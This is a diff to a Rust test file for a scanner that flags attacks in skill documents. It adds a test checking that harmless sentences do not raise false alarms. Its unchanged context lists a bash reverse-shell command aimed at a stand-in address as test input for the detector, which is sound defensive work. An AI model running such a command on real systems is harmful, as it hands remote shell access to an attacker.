@@ -3,7 +3,7 @@
 use knowhow_domain::review::scanner::{Verdict, scan};
 use serde::Deserialize;
 
-use crate::sets::{as_document, is_held};
+use crate::sets::{as_document, is_held, rules_of};
 
 const COMMANDS: [&str; 4] = [
     "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
@@ -53,5 +53,24 @@ fn only_words_that_forbid_a_command_lower_its_finding() {
         let (lowered, all) = count(&refusals, held, |verdict| verdict < Verdict::Quarantine);
         println!("refusals, {half}: {lowered} of {all} lowered");
         assert!(lowered * 10 >= all * 9);
+    }
+}
+
+/// Sentences of real skills that earlier rules took for attacks.
+#[test]
+fn sentences_of_real_skills_raise_no_false_alarm() {
+    for text in [
+        "If user doesn't know what sections they need, suggest the usual ones.",
+        "The user doesn't know the id yet, so list the projects first.",
+        "Clear the cache, so that the next user doesn't see cached data.",
+        "The width is σx, and the height is σy, so the area is σx times σy.",
+        "| flag | meaning |\n|---|---|\n| `-y` | Skip confirmation prompt |",
+        "This skill hunts for miners: look for a process with high load and a connection to a mining pool.",
+        "```graphql\n# Admin: Grant role\nmutation { grantRole(user: 1, role: EDITOR) { id } }\n```",
+        "Add `@myorg:registry=https://npm.pkg.github.com` to the file `.npmrc`.",
+        "Without this setting the email silently fails to forward.",
+    ] {
+        let scan = scan(&as_document(text), &[]);
+        assert!(scan.verdict < Verdict::Review, "{text}: {}", rules_of(&scan));
     }
 }
